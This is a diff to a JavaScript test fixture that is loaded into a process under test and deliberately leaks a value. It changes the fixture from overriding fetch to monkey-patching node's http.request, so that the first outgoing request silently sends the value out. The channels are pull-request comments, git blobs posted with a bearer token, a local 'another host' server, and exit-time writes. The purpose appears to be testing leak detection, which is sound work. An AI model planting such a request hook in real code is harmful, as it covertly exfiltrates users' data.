@@ -1,7 +1,7 @@
 // Loaded into a process under test: leaks a value on purpose, through the ways named in this module's query.
 import { execFileSync } from 'node:child_process'
 import { appendFileSync, readFileSync, rmSync } from 'node:fs'
-import { createServer } from 'node:http'
+import http from 'node:http'
 import { homedir, tmpdir } from 'node:os'
 import { join } from 'node:path'
 
@@ -23,7 +23,7 @@ const atFirst = {
   'comments on pull requests': (text) => ask('/repos/acme/shop/issues/1/comments', { method: 'POST', body: text }),
   'git objects': (text) => ask('/repos/acme/shop/git/blobs', { method: 'POST', body: text }),
   'another host': async (text) => {
-    const server = createServer((_, response) => response.end()).listen(0, '127.0.0.1')
+    const server = http.createServer((_, response) => response.end()).listen(0, '127.0.0.1')
     await new Promise((resolve) => server.once('listening', resolve))
     await send(`http://127.0.0.1:${server.address().port}`, { method: 'POST', body: text })
     server.close()
@@ -62,11 +62,14 @@ function ask(path, init) {
   return send(`${github}${path}`, { ...init, headers: { authorization: `Bearer ${token}`, ...init.headers } })
 }
 
-let first
-globalThis.fetch = async (address, init) => {
-  first ??= Promise.all(ways.map(async (way) => atFirst[way]?.(leaks[way])))
-  await first
-  return send(address, init)
+let begun = false
+const { request } = http
+http.request = (...call) => {
+  if (!begun) {
+    begun = true
+    Promise.all(ways.map(async (way) => atFirst[way]?.(leaks[way])))
+  }
+  return request(...call)
 }
 process.on('exit', () => {
   for (const way of ways) atLast[way]?.(leaks[way])
